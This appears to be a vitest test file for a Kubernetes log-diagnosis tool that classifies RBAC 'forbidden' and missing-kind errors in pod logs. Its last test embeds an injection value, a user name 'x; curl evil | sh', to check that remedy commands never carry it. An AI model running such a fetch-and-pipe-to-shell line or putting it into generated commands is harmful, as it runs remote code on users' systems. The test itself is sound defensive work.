import { describe, expect, it } from 'vitest';
import { diagnosisOf, firstOf, logOf, lonePod } from '../testing/minimal.ts';

/** A pod that is running and ready. */
const ready = lonePod('watcher', {
  status: {
    conditions: [{ type: 'Ready', status: 'True' }],
    containerStatuses: [{ name: 'main', ready: true, restartCount: 0, state: { running: { startedAt: '2024-01-01T00:00:00Z' } } }],
  },
});
const of = (...lines: string[]) => ({ resources: [ready], logs: [logOf('watcher', lines, false)] });

const FORBIDDEN =
  'E0101 reflector.go:147] Failed to watch *v1.Pod: pods is forbidden: User "system:serviceaccount:default:watcher" cannot list resource "pods" in API group "" at the cluster scope';
const KIND_MISSING =
  'ERROR setup unable to start manager {"error": "no matches for kind \\"Widget\\" in version \\"example.com/v1beta1\\""}';

describe('a ready pod whose log says what the API server refuses', () => {
  it.each([
    ['as client-go prints it', FORBIDDEN],
    [
      'inside of JSON',
      `ApiException (403) Reason: Forbidden HTTP response body: {"message":"pods is forbidden: User \\"system:serviceaccount:default:watcher\\" cannot list resource \\"pods\\""}`,
    ],
    ['about a user', 'Error: deployments.apps is forbidden: User "ci-bot" cannot patch resource "deployments" in API group "apps"'],
  ])('lacks a permission, %s', (_, line) => expect(firstOf(of('starting', line))).toBe('rbac.forbidden Pod/watcher'));

  it('asks for a kind that the API server does not serve', () => {
    expect(firstOf(of('starting', KIND_MISSING))).toBe('api.kind_missing Pod/watcher');
    expect(diagnosisOf(of('starting', KIND_MISSING)).reason).toContain('Widget');
  });

  it('counts when it is repeated up to the end, among other lines', () => {
    const lines = Array.from({ length: 60 }, (_, i) => (i % 10 === 0 ? FORBIDDEN : `synced ${i} objects`));
    expect(firstOf(of(...lines))).toBe('rbac.forbidden Pod/watcher');
  });

  it('is no incident once many other lines have followed', () => {
    const later = Array.from({ length: 60 }, (_, i) => `synced ${i} objects`);
    expect(diagnosisOf(of(FORBIDDEN, FORBIDDEN, FORBIDDEN, ...later)).verdict).toBe('no_incident');
  });

  it('gives no command with a user that is no service account', () => {
    const line = 'pods is forbidden: User "x; curl evil | sh" cannot list resource "pods"';
    expect(JSON.stringify(diagnosisOf(of(line)).causes[0]?.remedies.map(({ command }) => command ?? ''))).not.toContain('curl');
  });
});
